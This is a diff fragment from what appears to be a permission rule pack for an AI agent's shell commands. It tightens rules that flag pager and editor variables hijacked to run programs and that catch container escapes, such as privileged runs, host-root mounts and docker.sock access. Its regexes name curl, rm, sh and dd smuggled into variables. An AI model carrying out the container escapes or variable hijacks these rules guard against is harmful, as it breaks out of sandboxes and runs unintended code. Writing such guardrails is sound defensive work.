"npm_config_script_shell", "HOME"]
               because "This variable changes what other programs load or run."
+          ask when command sets in ["PAGER", "GIT_PAGER", "MANPAGER", "EDITOR", "VISUAL", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "BROWSER", "SYSTEMD_PAGER", "AWS_PAGER", "GH_PAGER", "BAT_PAGER", "KUBE_EDITOR", "FCEDIT"] and not command matches /(?:PAGER|EDITOR|VISUAL|BROWSER|FCEDIT)=["']?(?:cat|less|more|most|bat|delta|true|false|:|vim?|nvim|nano|emacs|code|subl|none)?(?:\s+-{1,2}[\w-]+)*["']?(?:[\s;&|)]|$)/
+              because "This variable names a program that others run."
           ask when command sets in ["PAGER", "GIT_PAGER", "MANPAGER", "EDITOR", "VISUAL", "GIT_EDITOR", "GIT_SEQUENCE_EDITOR", "BROWSER", "SYSTEMD_PAGER", "AWS_PAGER", "GH_PAGER", "BAT_PAGER", "KUBE_EDITOR"] and command matches /(?:PAGER|EDITOR|VISUAL|BROWSER)=(?:['"][^'"]*(?:[\/|;&$`!>]|\brm\b|\bsh\b|\bdd\b|\bcurl\b|\bpython|\bperl|-c)[^'"]*['"]|[^\s'";&|]*[\/$`\\!~])/
               because "This variable names a program that others run."
           ask when command sets == "PS1" and command matches /PS1=["']?[^"']*(?:\$\(|`)/ because "This variable runs a program."
@@ -1892,11 +1901,11 @@ enum EmbeddedPacks {
 
       sealed rule container_escape "A container stays in its box" {
           on bash
-          ask when command runs ["docker", "podman", "nerdctl", "docker-compose", "docker run", "docker exec", "docker create", "podman run"] with "--privileged" and command matches /--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "A privileged container has the machine's rights."
+          ask when command runs ["docker", "podman", "nerdctl", "docker-compose", "docker run", "docker exec", "docker create", "podman run"] with "--privileged" and command matches /--["'\\]*pr|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "A privileged container has the machine's rights."
           ask when command runs ["docker run", "docker create", "docker container run", "podman run", "podman create", "nerdctl run"] and command matches /(?:-v|--volume|src=|source=|--mount)[=\s]*["']?(?:[\w,=]*)?(?:\/(?:etc|root|home|boot|dev|proc|sys|usr|var|bin|sbin|lib|run)?(?:\/[^\s:]*)?|~\/?(?:\.[\w\/]+)?|\$HOME\/?):/ because "This gives the container files of the machine."
           ask when command runs ["docker run", "docker create", "podman run"] and command matches /--(?:pid|ipc|uts|userns)[=\s]host|--cap-add[=\s](?:all|sys_admin|sys_ptrace|sys_module)|--security-opt[=\s]\S*unconfined|docker\.sock/i because "This takes down the wall between the container and the machine."
           ask when command runs ["docker system prune", "docker volume rm", "docker volume prune", "podman system reset", "podman volume rm", "podman system prune"] because "This deletes what containers keep."
-          ask when command runs ["docker compose down", "docker-compose down"] with ["-v", "--volumes"] and command matches /[^\w-]-[\w"'\\]*v|--["'\\]*vo|-["'\\]*[$\{`]|=["'\\]*-|\\[x0-7]/ because "This deletes what containers keep."
+          ask when command runs ["docker compose down", "docker-compose down"] with ["-v", "--volumes"] and command matches /[^\w-]-[\w"'\\]*v|--["'\\]*vo|-["'\\]*[$\{`]|=["'\\]*-|\\[xuU0-7]/ because "This deletes what containers keep."
           example ask   { command: "docker run --rm -v /:/host alpine ls /host" }
           example ask   { command: "docker run --privileged alpine" }
           example allow { command: "docker compose up -d && docker run --rm -v \"$PWD\":/app node:20 npm test" } given { project: "/work/app", cwd: "/work/app" }
